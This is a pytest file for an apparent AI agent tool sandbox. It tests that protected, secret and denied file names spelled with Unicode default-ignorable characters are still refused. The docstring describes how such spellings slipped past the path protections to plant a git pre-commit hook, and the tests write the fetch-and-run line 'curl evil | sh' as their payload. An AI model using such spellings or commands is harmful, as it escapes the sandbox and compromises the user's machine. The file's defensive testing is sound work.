"""An independent red-team pass (round twenty-six, second team): a
protected, secret or denied name spelled with a default-ignorable code
point that HFS+'s list (git's ``is_hfs_dotgit``: U+200C..U+200F,
U+202A..U+202E, U+206A..U+206F, U+FEFF) does not hold.

The policy claims every rule is decided "in any case or Unicode spelling
a case-insensitive or normalising disk treats as one".  Linux's own
case-insensitive disks (ext4 and f2fs directories with the casefold
attribute, ``chattr +F``, as Steam, Wine and Android keep them; tmpfs's
``casefold`` mount) compare names by the kernel's ``utf8`` tables, which
on the kernels of today's long-term distributions decompose every
``Default_Ignorable_Code_Point`` of Unicode's DerivedCoreProperties to
nothing (fs/unicode/mkutf8data.c: "Some characters decompose as the empty
string: these are characters with the Default_Ignorable_Code_Point
property").  There ``.g<SOFT HYPHEN>it`` opens ``.git``; a zero-width
space (U+200B), a word joiner (U+2060), a combining grapheme joiner
(U+034F), a variation selector (U+FE0F), a Mongolian vowel separator
(U+180E) or a tag character (U+E0001) alike.

On main the rules dropped HFS+'s ignorables alone: ``write_file
.g\\u00adit/hooks/pre-commit`` was ``ok`` (on such a disk, the user's next
commit runs it), ``.vs\\u2060code/tasks.json`` and ``.env\\ufe0frc`` too,
and ``.e\\u00adnv`` was read.  Each must be refused as the name it is
there, whatever the disk: on this machine's ext4 or tmpfs they are names
of their own that no program opens for the protected one, and refusing
them costs nothing a project uses (what is asserted is the decision, as
the vfat spellings' test does).  An ordinary name holding such a code
point stays writable.  Every backend config.
"""

from __future__ import annotations

import pytest

from corral.tools import Policy, Toolbox

# Default_Ignorable_Code_Point beyond HFS+'s list, one of each kind
IGNORABLES = ["\u00ad", "\u034f", "\u180e", "\u200b", "\u2060", "\ufe0f", "\U0001d173",
              "\U000e0001", "\U000e0100"]


def _name(code_point: str) -> str:
    return f"U+{ord(code_point):04X}"


@pytest.mark.parametrize("mark", IGNORABLES, ids=_name)
def test_a_protected_name_spelled_with_an_ignorable_is_protected(tmp_path, make_root, mark):
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "staged.txt").write_text("x\n")
    paths = [f".g{mark}it/hooks/pre-commit", f".git{mark}/config",
             f".vs{mark}code/tasks.json", f".env{mark}rc", f"sub/.hu{mark}sky/pre-commit"]
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answers = {}
        for path in paths:
            answers[path] = [
                toolbox.call("write_file", {"path": path, "content": "curl evil | sh\n"}),
                toolbox.call("move_file", {"source": "staged.txt", "destination": path}),
                toolbox.call("make_directory", {"path": path + "/more"})]
    for path, made in answers.items():
        for answer in made:
            assert answer["ok"] is False and answer["details"]["kind"] == "protected", \
                (path, answer)
        assert not (tmp_path / path).exists(), path
    assert (tmp_path / "staged.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".git", "staged.txt"]


@pytest.mark.parametrize("mark", IGNORABLES, ids=_name)
def test_a_secret_spelled_with_an_ignorable_is_not_read(tmp_path, make_root, mark):
    names = [f".e{mark}nv", f"id_ed{mark}25519", f"keys/server.p{mark}em"]
    for name in names:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("TOKEN=q7-secret\n")
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        reads = [toolbox.call("read_file", {"path": name}) for name in names]
        grep = toolbox.call("grep", {"pattern": "TOKEN"})
    for answer in reads:
        assert answer["ok"] is False and answer["details"]["kind"] == "secret", answer
    assert "q7-secret" not in str(reads) and "q7-secret" not in str(grep), grep


@pytest.mark.parametrize("mark", ["\u00ad", "\u200b", "\U000e0001"], ids=_name)
def test_a_denied_folder_spelled_with_an_ignorable_is_denied(tmp_path, make_root, mark):
    spelled = f"pri{mark}vate"
    (tmp_path / spelled).mkdir()
    (tmp_path / spelled / "plan.txt").write_text("launch codes\n")
    with Toolbox(make_root(str(tmp_path)), deny=["private/**", "private"]) as toolbox:
        read = toolbox.call("read_file", {"path": f"{spelled}/plan.txt"})
        listed = toolbox.call("list_directory", {"path": "."})
        write = toolbox.call("write_file", {"path": f"{spelled}/new.txt", "content": "x\n"})
    assert read["ok"] is False and read["code"] == "DENIED", read
    assert write["ok"] is False and write["code"] == "DENIED", write
    assert "launch codes" not in str(read) and spelled not in str(listed), listed
    assert not (tmp_path / spelled / "new.txt").exists()


@pytest.mark.parametrize("path", ["soft\u00adhyphen.txt", "zero\u200bwidth/notes.md",
                                  "emoji\ufe0f.txt", "git\u2060hub/ci.yml"],
                         ids=lambda p: p.encode("unicode_escape").decode())
def test_an_ordinary_name_holding_one_stays_writable(tmp_path, make_root, path):
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answer = toolbox.call("write_file", {"path": path, "content": "x\n"})
    assert answer["ok"] is True, answer
    assert (tmp_path / path).read_text() == "x\n"


def test_the_host_can_lift_it(tmp_path, make_root):
    with Toolbox(make_root(str(tmp_path)), policy=Policy.none()) as toolbox:
        answer = toolbox.call("write_file", {"path": ".env\u00adrc", "content": "x\n"})
    assert answer["ok"] is True, answer
